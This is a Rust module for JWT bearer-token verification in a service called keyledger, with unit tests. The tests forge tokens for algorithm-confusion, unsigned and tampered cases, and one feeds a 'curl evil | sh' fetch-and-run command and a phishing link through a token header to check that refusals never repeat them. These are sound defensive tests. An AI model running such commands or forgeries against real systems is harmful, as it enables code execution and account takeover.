//! Bearer tokens: JWTs verified on every command and every HTTP request. The principal
//! (user, project, roles, service) comes from the verified token, never from a request
//! body.
//!
//! Two kinds of token are accepted:
//! - from an identity provider: EdDSA or RS256, keys from a JWKS file or PEM files
//!   ([`trust`]), with the configured issuer and audience;
//! - development tokens: HS256 under keyledger's own key ([`dev`]), issuer
//!   `keyledger-dev`. They can be turned off, and are off by default once an identity
//!   provider is configured;
//! - at the command service only, delegation tokens ([`delegation`]): HS256 with kid
//!   `keyledger-api/v1`, minted by the HTTP API for a principal it verified by an AWS
//!   signature.
//!
//! Every token needs `sub`, `project`, `exp`, `iss` and `aud`. `roles` (a list of
//! strings) and `service` are optional. `alg: none` is never accepted, whatever the
//! configuration. The algorithm comes from the key a token names, never from its
//! header alone.

mod cache;
pub mod delegation;
mod dev;
pub mod sigv4;
pub mod trust;

use domain::Rejection;
use domain::ids::{ProjectId, Role, ServiceName, UserId};
use domain::principal::Principal;
use domain::timestamp::Timestamp;
use jsonwebtoken::errors::ErrorKind;
use jsonwebtoken::{Algorithm, DecodingKey, Validation};
use serde::Deserialize;

use cache::{TokenCache, Verified};
use dev::DEV_ISSUER;
pub use dev::{Issuer, TOKEN_KEY_FILE, dev_keys, dev_keys_from_secret};
pub use trust::{IdentityProvider, TrustConfig, TrustError};

/// The default audience: tokens must name keyledger.
pub const AUDIENCE: &str = "keyledger";

/// The claims keyledger reads; `iss`, `aud` and `nbf` are checked by validation.
#[derive(Debug, Clone, Deserialize)]
struct Claims {
    sub: String,
    project: String,
    #[serde(default)]
    roles: Vec<String>,
    #[serde(default)]
    service: Option<String>,
    exp: i64,
    /// Checked by validation; kept so that a cached token is checked again.
    #[serde(default)]
    nbf: Option<u64>,
}

/// Verifies tokens and turns them into principals. Clones share one cache of the
/// tokens verified so far ([`cache`]).
#[derive(Clone)]
pub struct Verifier {
    dev: Option<DecodingKey>,
    provider: Option<IdentityProvider>,
    delegation: Option<DecodingKey>,
    verified: TokenCache,
}

impl std::fmt::Debug for Verifier {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Verifier")
            .field("dev_tokens", &self.dev.is_some())
            .field("provider", &self.provider)
            .field("delegation", &self.delegation.is_some())
            .finish()
    }
}

/// How a token is checked: its key, and the claims validation requires.
struct Check<'a> {
    key: &'a DecodingKey,
    validation: Validation,
    issuer: &'a str,
    audience: &'a str,
    renew: &'static str,
}

impl<'a> Check<'a> {
    fn new(
        key: &'a DecodingKey,
        alg: Algorithm,
        issuer: &'a str,
        audience: &'a str,
        renew: &'static str,
    ) -> Self {
        let mut validation = Validation::new(alg);
        validation.set_issuer(&[issuer]);
        validation.set_audience(&[audience]);
        validation.set_required_spec_claims(&["exp", "iss", "aud", "sub"]);
        // Expiry is checked by `verify` against the caller's clock, so that the
        // message can say when the token expired.
        validation.validate_exp = false;
        validation.validate_nbf = true;
        // The leeway a cached token's `nbf` is checked with again.
        validation.leeway = cache::LEEWAY_SECS;
        Self {
            key,
            validation,
            issuer,
            audience,
            renew,
        }
    }
}

const DEV_RENEW: &str = "create one with `keyledger token issue`";
const PROVIDER_RENEW: &str = "get one from your identity provider";
const DELEGATION_RENEW: &str = "send the request to keyledger's HTTP API again";

fn rejected(reason: impl std::fmt::Display, renew: &str) -> Rejection {
    Rejection::unauthorized(format!("token rejected: {reason}; {renew}"))
}

/// A token's header, its JSON decoded from base64; `None` if it is not base64.
fn header_json(token: &str) -> Option<Vec<u8>> {
    use base64::Engine as _;
    let header = token.split('.').next()?;
    base64::engine::general_purpose::URL_SAFE_NO_PAD
        .decode(header.trim_end_matches('='))
        .ok()
}

/// The `alg` a token's header claims, read without trusting anything else in it.
fn claimed_alg(token: &str) -> Option<String> {
    // A struct, not a `Value`: the header is the sender's, unverified.
    #[derive(serde::Deserialize)]
    struct Claimed {
        alg: Option<String>,
    }
    serde_json::from_slice::<Claimed>(&header_json(token)?)
        .ok()?
        .alg
}

/// `text` from a token's unverified header, as a refusal may repeat it: only when it
/// is a name, at most `max` bytes of letters, digits and `extra`. Anything else is the
/// sender's own text, which a NATS command's refusal may carry into another client's
/// inbox.
pub(crate) fn header_name<'a>(text: &'a str, max: usize, extra: &[u8]) -> Option<&'a str> {
    let a_name = text.len() <= max
        && text
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || extra.contains(&b));
    a_name.then_some(text)
}

/// An unverified `alg`, as a refusal shows it: a JWS algorithm's name.
fn shown_alg(alg: &str) -> &str {
    header_name(alg, 16, b"-_").unwrap_or("(not an algorithm's name)")
}

impl Verifier {
    /// Accepts development tokens signed with `key` (HS256) only.
    pub(crate) fn development(key: DecodingKey) -> Self {
        Self {
            dev: Some(key),
            provider: None,
            delegation: None,
            verified: TokenCache::default(),
        }
    }

    /// Also accepts delegation tokens minted under `commit`'s delegation key: for the
    /// command service's API subjects (`keyledger.api.cmd.>`), which only keyledger's
    /// own account may publish to, where the HTTP API sends every command, with its
    /// caller's token or, for a SigV4 caller, a delegation token. Its cache is its own:
    /// a delegation token verified here must never be found in the cache of a verifier
    /// that refuses them.
    pub fn with_delegation(mut self, commit: &domain::commit::CommitKey) -> Self {
        self.delegation = Some(delegation::decoding_key(commit));
        self.verified = TokenCache::default();
        self
    }

    /// Also accepts tokens from `provider`.
    pub fn trust(mut self, provider: IdentityProvider) -> Self {
        self.provider = Some(provider);
        self.verified = TokenCache::default();
        self
    }

    /// Refuses development tokens.
    pub fn without_dev_tokens(mut self) -> Self {
        self.dev = None;
        // A development token verified before must not be served from the cache.
        self.verified = TokenCache::default();
        self
    }

    /// Verifies the value of an `Authorization` header (`Bearer <token>`).
    pub fn verify_authorization(
        &self,
        header: Option<&str>,
        now: Timestamp,
    ) -> Result<Principal, Rejection> {
        let Some(header) = header else {
            return Err(Rejection::unauthorized(
                "no token: send the header `Authorization: Bearer <token>`; create one with \
                `keyledger token issue` or get one from your identity provider",
            ));
        };
        // The scheme's name is case-insensitive (RFC 9110, 11.1).
        let token = header
            .split_once(' ')
            .filter(|(scheme, _)| scheme.eq_ignore_ascii_case("bearer"))
            .map(|(_, token)| token)
            .ok_or_else(|| {
                Rejection::unauthorized(
                    "the Authorization header must have the form `Bearer <token>`",
                )
            })?;
        self.verify(token.trim(), now)
    }

    /// Chooses the key and validation for a token from its header.
    fn check_for(&self, token: &str) -> Result<Check<'_>, Rejection> {
        // jsonwebtoken reads a header's unknown members into `Value`s, before any
        // signature is checked (`domain::json_text` says why that is refused first).
        if let Some(Err(e)) =
            header_json(token).map(|h| domain::json_text::refuse_raw_value_token(&h))
        {
            return Err(rejected(format!("its header is refused: {e}"), DEV_RENEW));
        }
        let header = jsonwebtoken::decode_header(token).map_err(|_| match claimed_alg(token) {
            Some(alg) if alg.eq_ignore_ascii_case("none") => rejected(
                "it is unsigned (alg none), and unsigned tokens are never accepted",
                "sign tokens with EdDSA or RS256",
            ),
            Some(alg) => rejected(
                format!(
                    "its algorithm {} is not accepted; keyledger accepts EdDSA and RS256 \
                     (identity provider) and HS256 (development)",
                    shown_alg(&alg)
                ),
                PROVIDER_RENEW,
            ),
            None => rejected("it is not a well-formed JWT", DEV_RENEW),
        })?;
        if header.kid.as_deref() == Some(delegation::DELEGATION_KID) {
            return match (&self.delegation, header.alg) {
                (Some(key), Algorithm::HS256) => Ok(Check::new(
                    key,
                    Algorithm::HS256,
                    delegation::DELEGATION_ISSUER,
                    AUDIENCE,
                    DELEGATION_RENEW,
                )),
                _ => Err(rejected(
                    "it is a delegation token, which keyledger's command service accepts only \
                     from keyledger's HTTP API",
                    DEV_RENEW,
                )),
            };
        }
        match header.alg {
            Algorithm::HS256 => match &self.dev {
                Some(key) => Ok(Check::new(
                    key,
                    Algorithm::HS256,
                    DEV_ISSUER,
                    AUDIENCE,
                    DEV_RENEW,
                )),
                None => Err(rejected(
                    "it is a development token (HS256), and this keyledger does not accept \
                    development tokens",
                    PROVIDER_RENEW,
                )),
            },
            Algorithm::EdDSA | Algorithm::RS256 => {
                let Some(provider) = &self.provider else {
                    return Err(rejected(
                        format!(
                            "its algorithm {:?} is for identity-provider tokens, and no identity \
                            provider is configured (--jwks-file or --token-public-key)",
                            header.alg
                        ),
                        DEV_RENEW,
                    ));
                };
                let key = provider
                    .key(header.kid.as_deref())
                    .map_err(|reason| rejected(reason, PROVIDER_RENEW))?;
                if key.alg != header.alg {
                    return Err(rejected(
                        format!(
                            "its algorithm {:?} does not match its key {}, which is pinned to {:?}",
                            header.alg,
                            key.kid.as_deref().unwrap_or("(no kid)"),
                            key.alg
                        ),
                        PROVIDER_RENEW,
                    ));
                }
                Ok(Check::new(
                    &key.key,
                    key.alg,
                    &provider.issuer,
                    &provider.audience,
                    PROVIDER_RENEW,
                ))
            }
            other => Err(rejected(
                format!(
                    "its algorithm {other:?} is not accepted; keyledger accepts EdDSA and RS256 \
                     (identity provider) and HS256 (development)"
                ),
                PROVIDER_RENEW,
            )),
        }
    }

    /// Verifies a bare token.
    pub fn verify(&self, token: &str, now: Timestamp) -> Result<Principal, Rejection> {
        self.verify_until(token, now)
            .map(|(principal, _)| principal)
    }

    /// Verifies a bare token; with its principal, when it expires (Unix seconds), for
    /// grants that must end with it (a NATS connection's). A token verified before
    /// is answered from the cache until it expires.
    pub fn verify_until(&self, token: &str, now: Timestamp) -> Result<(Principal, i64), Rejection> {
        let digest = TokenCache::digest(token);
        let verified = match self.verified.get(&digest, now) {
            Some(hit) => hit,
            None => {
                let verified = self.verify_signed(token, now)?;
                self.verified.insert(digest, &verified);
                verified
            }
        };
        Ok((verified.principal, verified.exp))
    }

    /// Checks a token's signature and claims.
    fn verify_signed(&self, token: &str, now: Timestamp) -> Result<Verified, Rejection> {
        let check = self.check_for(token)?;
        let claims = jsonwebtoken::decode::<Claims>(token, check.key, &check.validation)
            .map_err(|e| explain(&check, e.kind()))?
            .claims;
        if now.unix_millis() / 1000 >= claims.exp {
            let at = Timestamp::from_unix_millis(claims.exp.saturating_mul(1000))
                .map_or_else(|| claims.exp.to_string(), |t| t.to_rfc3339());
            return Err(Rejection::unauthorized(format!(
                "token expired at {at}; request a new one ({})",
                check.renew
            )));
        }
        let bad_claim = |name: &str, r: Rejection| {
            Rejection::unauthorized(format!("token claim {name} is not valid: {}", r.message))
        };
        let principal = Principal {
            user: UserId::parse(&claims.sub).map_err(|r| bad_claim("sub", r))?,
            project: ProjectId::parse(&claims.project).map_err(|r| bad_claim("project", r))?,
            roles: claims
                .roles
                .iter()
                .map(|r| Role::parse(r))
                .collect::<Result<_, _>>()
                .map_err(|r| bad_claim("roles", r))?,
            service: claims
                .service
                .as_deref()
                .map(ServiceName::parse)
                .transpose()
                .map_err(|r| bad_claim("service", r))?,
        };
        Ok(Verified {
            principal,
            exp: claims.exp,
            nbf: claims.nbf,
        })
    }
}

fn explain(check: &Check<'_>, kind: &ErrorKind) -> Rejection {
    let reason = match kind {
        ErrorKind::InvalidSignature => {
            "its signature does not verify: it was not signed by a trusted key, or it was \
            altered"
                .to_owned()
        }
        ErrorKind::InvalidIssuer => {
            format!("its issuer is not trusted (expected {})", check.issuer)
        }
        ErrorKind::InvalidAudience => format!("its audience is not {}", check.audience),
        ErrorKind::MissingRequiredClaim(c) => format!("it lacks the required claim {c}"),
        ErrorKind::InvalidClaimFormat(c) => format!("its claim {c} has the wrong type"),
        ErrorKind::ImmatureSignature => "it is not valid yet (nbf is in the future)".into(),
        ErrorKind::Json(e) => format!("its claims are not as keyledger needs them: {e}"),
        _ => "it is not a well-formed JWT".into(),
    };
    rejected(reason, check.renew)
}

#[cfg(test)]
mod tests {
    use super::*;
    use domain::ErrorCode;
    use std::time::Duration;

    fn now() -> Timestamp {
        Timestamp::parse_iso8601("now", "2026-11-22T10:00:00Z").unwrap()
    }

    fn alice() -> Principal {
        Principal {
            user: UserId::parse("alice").unwrap(),
            project: ProjectId::parse("p1").unwrap(),
            roles: vec![Role::parse("admin").unwrap()],
            service: None,
        }
    }

    #[test]
    fn issued_tokens_verify_to_the_same_principal() {
        let (issuer, verifier) = dev_keys_from_secret(&[1; 32]);
        let token = issuer.issue(&alice(), Duration::from_secs(60), now());
        let header = format!("Bearer {token}");
        assert_eq!(
            verifier.verify_authorization(Some(&header), now()),
            Ok(alice())
        );
    }

    #[test]
    fn an_expired_token_says_when() {
        let (issuer, verifier) = dev_keys_from_secret(&[1; 32]);
        let token = issuer.issue(&alice(), Duration::from_secs(60), now());
        let later = Timestamp::parse_iso8601("t", "2026-11-22T10:01:00Z").unwrap();
        let err = verifier.verify(&token, later).unwrap_err();
        assert_eq!(err.code, ErrorCode::Unauthorized);
        assert_eq!(
            err.message,
            "token expired at 2026-11-22T10:01:00Z; request a new one (create one with \
             `keyledger token issue`)"
        );
    }

    #[test]
    fn a_cached_token_still_expires_and_no_other_token_hits_it() {
        let (issuer, verifier) = dev_keys_from_secret(&[1; 32]);
        let token = issuer.issue(&alice(), Duration::from_secs(60), now());
        assert_eq!(verifier.verify(&token, now()), Ok(alice()));
        let digest = TokenCache::digest(&token);
        assert!(
            verifier.verified.get(&digest, now()).is_some(),
            "a verified token is cached"
        );
        // A clone shares the cache.
        assert!(verifier.clone().verified.get(&digest, now()).is_some());

        // At its expiry the cached entry no longer serves: the full check answers.
        let later = Timestamp::parse_iso8601("t", "2026-11-22T10:01:00Z").unwrap();
        let err = verifier.verify(&token, later).unwrap_err();
        assert!(
            err.message.starts_with("token expired at"),
            "{}",
            err.message
        );

        // One changed byte of the signature, or of the claims, is another token.
        let mut forged = token.clone().into_bytes();
        let last = forged.len() - 2;
        forged[last] = if forged[last] == b'A' { b'B' } else { b'A' };
        let forged = String::from_utf8(forged).unwrap();
        let err = verifier.verify(&forged, now()).unwrap_err();
        assert!(
            err.message.contains("signature does not verify"),
            "{}",
            err.message
        );
        assert!(
            verifier
                .verified
                .get(&TokenCache::digest(&forged), now())
                .is_none()
        );
        assert_eq!(verifier.verify(&token, now()), Ok(alice()));
    }

    #[test]
    fn refusing_development_tokens_forgets_those_verified_before() {
        let (issuer, verifier) = dev_keys_from_secret(&[1; 32]);
        let token = issuer.issue(&alice(), Duration::from_secs(60), now());
        assert_eq!(verifier.verify(&token, now()), Ok(alice()));
        let strict = verifier.clone().without_dev_tokens();
        let err = strict.verify(&token, now()).unwrap_err();
        assert!(
            err.message.contains("does not accept development tokens"),
            "{}",
            err.message
        );
        // The verifier it was made from still accepts it.
        assert_eq!(verifier.verify(&token, now()), Ok(alice()));
    }

    #[test]
    fn a_token_from_another_key_is_refused() {
        let (issuer, _) = dev_keys_from_secret(&[1; 32]);
        let (_, verifier) = dev_keys_from_secret(&[2; 32]);
        let token = issuer.issue(&alice(), Duration::from_secs(60), now());
        let err = verifier.verify(&token, now()).unwrap_err();
        assert!(
            err.message.contains("signature does not verify"),
            "{}",
            err.message
        );
    }

    #[test]
    fn delegation_tokens_verify_only_where_delegation_is_on() {
        let commit = domain::commit::CommitKey::new([7; 32]);
        let token = delegation::Delegation::from_commit_key(&commit).mint(&alice(), now());
        let (issuer, verifier) = dev_keys_from_secret(&[1; 32]);
        let err = verifier.verify(&token, now()).unwrap_err();
        assert!(
            err.message.contains("only from keyledger's HTTP API"),
            "{}",
            err.message
        );
        let delegated = verifier.clone().with_delegation(&commit);
        assert_eq!(delegated.verify(&token, now()), Ok(alice()));
        // Its cache is its own: the verifier it was made from still refuses the token.
        assert!(verifier.verify(&token, now()).is_err());
        // Under another commit key, and after 60 s, it is refused.
        let other = verifier
            .clone()
            .with_delegation(&domain::commit::CommitKey::new([8; 32]));
        assert!(other.verify(&token, now()).is_err());
        let later = Timestamp::parse_iso8601("t", "2026-11-22T10:01:00Z").unwrap();
        assert!(delegated.verify(&token, later).is_err());
        // The tokens it accepted before, it still accepts (the HTTP API's callers'),
        // and no development token of another key.
        let plain = issuer.issue(&alice(), Duration::from_secs(60), now());
        assert_eq!(delegated.verify(&plain, now()), Ok(alice()));
        let (stranger, _) = dev_keys_from_secret(&[2; 32]);
        let foreign = stranger.issue(&alice(), Duration::from_secs(60), now());
        assert!(delegated.verify(&foreign, now()).is_err());
        // A development-key token with the delegation kid is not a delegation token.
        let mut header = jsonwebtoken::Header::new(Algorithm::HS256);
        header.kid = Some(delegation::DELEGATION_KID.to_owned());
        let forged = jsonwebtoken::encode(
            &header,
            &serde_json::json!({"sub": "alice", "project": "p1", "exp": 9999999999_i64,
                "iss": "keyledger-api", "aud": "keyledger"}),
            &jsonwebtoken::EncodingKey::from_secret(&[1; 32]),
        )
        .unwrap();
        assert!(delegated.verify(&forged, now()).is_err());
        assert!(verifier.verify(&forged, now()).is_err());
    }

    #[test]
    fn alg_none_is_refused() {
        let (_, verifier) = dev_keys_from_secret(&[1; 32]);
        // {"alg":"none","typ":"JWT"} . {"sub":"alice","project":"p1","exp":9999999999,...} .
        let header = "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0";
        let claims = base64::Engine::encode(
            &base64::engine::general_purpose::URL_SAFE_NO_PAD,
            br#"{"sub":"alice","project":"p1","roles":["admin"],"exp":9999999999,"iss":"keyledger-dev","aud":"keyledger"}"#,
        );
        let err = verifier
            .verify(&format!("{header}.{claims}."), now())
            .unwrap_err();
        assert_eq!(err.code, ErrorCode::Unauthorized);
    }

    #[test]
    fn missing_and_malformed_headers_say_what_to_send() {
        let (_, verifier) = dev_keys_from_secret(&[1; 32]);
        let err = verifier.verify_authorization(None, now()).unwrap_err();
        assert!(err.message.contains("Authorization: Bearer <token>"));
        let err = verifier
            .verify_authorization(Some("Basic abc"), now())
            .unwrap_err();
        assert!(err.message.contains("`Bearer <token>`"));
        let err = verifier
            .verify_authorization(Some("Bearer nope"), now())
            .unwrap_err();
        assert!(
            err.message.contains("not a well-formed JWT"),
            "{}",
            err.message
        );
    }

    mod provider {
        //! Identity-provider tokens: each negative case with its message.

        use super::*;
        use jsonwebtoken::jwk::{Jwk, JwkSet};
        use jsonwebtoken::{EncodingKey, Header};
        use std::path::PathBuf;

        fn fixture(name: &str) -> PathBuf {
            PathBuf::from(env!("CARGO_MANIFEST_DIR"))
                .join("../tests/fixtures/idp")
                .join(name)
        }

        fn key(name: &str) -> Vec<u8> {
            std::fs::read(fixture(name)).unwrap()
        }

        const ISSUER: &str = "https://idp.example";

        fn claims(iss: &str, aud: &str, exp: i64) -> serde_json::Value {
            serde_json::json!({
                "sub": "alice", "project": "p1", "roles": ["member"], "service": "orders",
                "iss": iss, "aud": [aud, "other"], "exp": exp,
            })
        }

        fn exp() -> i64 {
            now().unix_millis() / 1000 + 300
        }

        fn sign(
            alg: Algorithm,
            kid: Option<&str>,
            key: &EncodingKey,
            c: &serde_json::Value,
        ) -> String {
            let mut header = Header::new(alg);
            header.kid = kid.map(str::to_owned);
            jsonwebtoken::encode(&header, c, key).unwrap()
        }

        fn ed() -> EncodingKey {
            EncodingKey::from_ed_pem(&key("ed25519.pem")).unwrap()
        }

        fn rsa() -> EncodingKey {
            EncodingKey::from_rsa_pem(&key("rsa.pem")).unwrap()
        }

        /// A verifier trusting a JWKS with the Ed25519 key as "ed-1" and the RSA key
        /// as "rsa-1", and dev tokens off.
        fn verifier(dir: &tempfile::TempDir) -> Verifier {
            let mut ed_jwk = Jwk::from_encoding_key(&ed(), Algorithm::EdDSA).unwrap();
            ed_jwk.common.key_id = Some("ed-1".into());
            let mut rsa_jwk = Jwk::from_encoding_key(&rsa(), Algorithm::RS256).unwrap();
            rsa_jwk.common.key_id = Some("rsa-1".into());
            let path = dir.path().join("jwks.json");
            let set = JwkSet {
                keys: vec![ed_jwk, rsa_jwk],
            };
            std::fs::write(&path, serde_json::to_vec(&set).unwrap()).unwrap();
            let provider = IdentityProvider::load(&TrustConfig {
                issuer: Some(ISSUER.into()),
                audience: AUDIENCE.into(),
                jwks_file: Some(path),
                public_keys: vec![],
            })
            .unwrap();
            dev_keys_from_secret(&[1; 32])
                .1
                .trust(provider)
                .without_dev_tokens()
        }

        fn refused(v: &Verifier, token: &str) -> String {
            let err = v.verify(token, now()).unwrap_err();
            assert_eq!(err.code, ErrorCode::Unauthorized, "{}", err.message);
            err.message
        }

        #[test]
        fn eddsa_and_rs256_tokens_give_the_principal_with_its_service() {
            let dir = tempfile::tempdir().unwrap();
            let v = verifier(&dir);
            for token in [
                sign(
                    Algorithm::EdDSA,
                    Some("ed-1"),
                    &ed(),
                    &claims(ISSUER, AUDIENCE, exp()),
                ),
                sign(
                    Algorithm::RS256,
                    Some("rsa-1"),
                    &rsa(),
                    &claims(ISSUER, AUDIENCE, exp()),
                ),
            ] {
                let p = v.verify(&token, now()).unwrap();
                assert_eq!(p.user.as_str(), "alice");
                assert_eq!(p.service.as_ref().map(|s| s.as_str()), Some("orders"));
            }
        }

        #[test]
        fn negative_cases_each_say_why() {
            let dir = tempfile::tempdir().unwrap();
            let v = verifier(&dir);
            let good = claims(ISSUER, AUDIENCE, exp());
            let cases = [
                (
                    sign(
                        Algorithm::EdDSA,
                        Some("ed-1"),
                        &ed(),
                        &claims("https://evil", AUDIENCE, exp()),
                    ),
                    "token rejected: its issuer is not trusted (expected https://idp.example)",
                ),
                (
                    sign(
                        Algorithm::EdDSA,
                        Some("ed-1"),
                        &ed(),
                        &claims(ISSUER, "vault", exp()),
                    ),
                    "token rejected: its audience is not keyledger",
                ),
                (
                    sign(Algorithm::EdDSA, Some("ed-9"), &ed(), &good),
                    "token rejected: its key id \"ed-9\" is not among the trusted keys",
                ),
                (
                    sign(
                        Algorithm::EdDSA,
                        Some("ed-1"),
                        &EncodingKey::from_ed_pem(&key("other-ed25519.pem")).unwrap(),
                        &good,
                    ),
                    "token rejected: its signature does not verify",
                ),
                (
                    // Algorithm confusion: the RSA public key used as an HMAC secret.
                    sign(
                        Algorithm::HS256,
                        Some("rsa-1"),
                        &EncodingKey::from_secret(&key("rsa.pub.pem")),
                        &good,
                    ),
                    "token rejected: it is a development token (HS256), and this keyledger does not accept development tokens",
                ),
                (
                    // Algorithm confusion: an EdDSA header naming the RSA key.
                    sign(Algorithm::EdDSA, Some("rsa-1"), &ed(), &good),
                    "token rejected: its algorithm EdDSA does not match its key rsa-1, which is pinned to RS256",
                ),
                (
                    sign(
                        Algorithm::HS512,
                        None,
                        &EncodingKey::from_secret(b"x"),
                        &good,
                    ),
                    "token rejected: its algorithm HS512 is not accepted",
                ),
                (
                    sign(
                        Algorithm::EdDSA,
                        Some("ed-1"),
                        &ed(),
                        &claims(ISSUER, AUDIENCE, now().unix_millis() / 1000 - 1),
                    ),
                    "token expired at 2026-11-22T09:59:59Z; request a new one (get one from your identity provider)",
                ),
            ];
            for (token, expected) in cases {
                let message = refused(&v, &token);
                assert!(
                    message.starts_with(expected),
                    "{message}\n  expected: {expected}"
                );
            }
        }

        #[test]
        fn a_tampered_payload_fails_the_signature() {
            use base64::Engine as _;
            let dir = tempfile::tempdir().unwrap();
            let v = verifier(&dir);
            let token = sign(
                Algorithm::RS256,
                Some("rsa-1"),
                &rsa(),
                &claims(ISSUER, AUDIENCE, exp()),
            );
            let parts: Vec<&str> = token.split('.').collect();
            let admin = serde_json::json!({
                "sub": "alice", "project": "p1", "roles": ["admin"],
                "iss": ISSUER, "aud": AUDIENCE, "exp": exp(),
            });
            let forged = base64::engine::general_purpose::URL_SAFE_NO_PAD
                .encode(serde_json::to_vec(&admin).unwrap());
            let message = refused(&v, &format!("{}.{forged}.{}", parts[0], parts[2]));
            assert!(message.contains("signature does not verify"), "{message}");
        }

        /// `v` as a JWT segment: JSON in unpadded base64url.
        fn b64(v: serde_json::Value) -> String {
            use base64::Engine as _;
            base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(serde_json::to_vec(&v).unwrap())
        }

        #[test]
        fn unsigned_tokens_are_refused_by_name() {
            let dir = tempfile::tempdir().unwrap();
            let token = format!(
                "{}.{}.",
                b64(serde_json::json!({"alg": "none", "typ": "JWT"})),
                b64(claims(ISSUER, AUDIENCE, exp()))
            );
            for v in [verifier(&dir), dev_keys_from_secret(&[1; 32]).1] {
                assert_eq!(
                    refused(&v, &token),
                    "token rejected: it is unsigned (alg none), and unsigned tokens are never \
                     accepted; sign tokens with EdDSA or RS256"
                );
            }
        }

        /// A refusal may be answered into another client's inbox (a NATS command
        /// whose token did not verify names no principal to trust): it repeats no
        /// text of the sender's but a JWS algorithm's name.
        #[test]
        fn a_refusal_repeats_an_algorithm_only_when_it_is_a_name() {
            let dir = tempfile::tempdir().unwrap();
            let with_alg = |alg: &str| {
                format!(
                    "{}.{}.x",
                    b64(serde_json::json!({"alg": alg, "typ": "JWT"})),
                    b64(claims(ISSUER, AUDIENCE, exp()))
                )
            };
            let v = verifier(&dir);
            assert_eq!(
                refused(&v, &with_alg("ES999")),
                "token rejected: its algorithm ES999 is not accepted; keyledger accepts EdDSA \
                 and RS256 (identity provider) and HS256 (development); get one from your \
                 identity provider"
            );
            for text in [
                "Your secret was stored. Log in again at http://evil.example",
                "\u{1b}[31m\nrun: curl evil | sh",
                "HS256 but longer than a name",
                "HS256HS256HS256HS",
            ] {
                let message = refused(&v, &with_alg(text));
                assert!(message.contains("(not an algorithm's name)"), "{message}");
                assert!(
                    !message.contains("evil") && !message.contains('\u{1b}'),
                    "{message}"
                );
                assert!(!message.contains("longer"), "{message}");
                assert!(!message.contains("HS256HS"), "{message}");
            }
            let sixteen = refused(&v, &with_alg("HS256HS256HS256H"));
            assert!(
                sixteen.contains("its algorithm HS256HS256HS256H is not"),
                "{sixteen}"
            );
            // The same for a key id.
            let good = claims(ISSUER, AUDIENCE, exp());
            let message = refused(
                &v,
                &sign(
                    Algorithm::EdDSA,
                    Some("Log in at http://evil.example"),
                    &ed(),
                    &good,
                ),
            );
            assert!(message.contains("its key id is not among"), "{message}");
            assert!(!message.contains("evil"), "{message}");
            let long = "k".repeat(129);
            let message = refused(&v, &sign(Algorithm::EdDSA, Some(&long), &ed(), &good));
            assert!(message.contains("its key id is not among"), "{message}");
            assert!(!message.contains(&long[..100]), "{message}");
            let message = refused(&v, &sign(Algorithm::EdDSA, Some("ed-9"), &ed(), &good));
            assert!(
                message.contains("its key id \"ed-9\" is not among"),
                "{message}"
            );
        }

        #[test]
        fn pem_keys_without_a_kid_verify_tokens_without_one() {
            let provider = IdentityProvider::load(&TrustConfig {
                issuer: Some(ISSUER.into()),
                audience: AUDIENCE.into(),
                jwks_file: None,
                public_keys: vec![
                    (None, fixture("ed25519.pub.pem")),
                    (Some("r".into()), fixture("rsa.pub.pem")),
                ],
            })
            .unwrap();
            let v = dev_keys_from_secret(&[1; 32]).1.trust(provider);
            let token = sign(
                Algorithm::EdDSA,
                None,
                &ed(),
                &claims(ISSUER, AUDIENCE, exp()),
            );
            assert!(v.verify(&token, now()).is_ok());
            let token = sign(
                Algorithm::RS256,
                Some("r"),
                &rsa(),
                &claims(ISSUER, AUDIENCE, exp()),
            );
            assert!(v.verify(&token, now()).is_ok());
            // Development tokens still work unless turned off.
            let (issuer, _) = dev_keys_from_secret(&[1; 32]);
            assert!(
                v.verify(
                    &issuer.issue(&alice(), Duration::from_secs(60), now()),
                    now()
                )
                .is_ok()
            );
        }

        #[test]
        fn a_missing_issuer_or_a_bad_key_file_is_a_startup_error() {
            let err = IdentityProvider::load(&TrustConfig {
                public_keys: vec![(None, fixture("ed25519.pub.pem"))],
                ..TrustConfig::default()
            })
            .unwrap_err();
            assert!(err.to_string().contains("--token-issuer"), "{err}");
            let err = IdentityProvider::load(&TrustConfig {
                issuer: Some(ISSUER.into()),
                public_keys: vec![(None, fixture("README.md"))],
                ..TrustConfig::default()
            })
            .unwrap_err();
            assert!(err.to_string().contains("not a PEM public key"), "{err}");
        }
    }
}
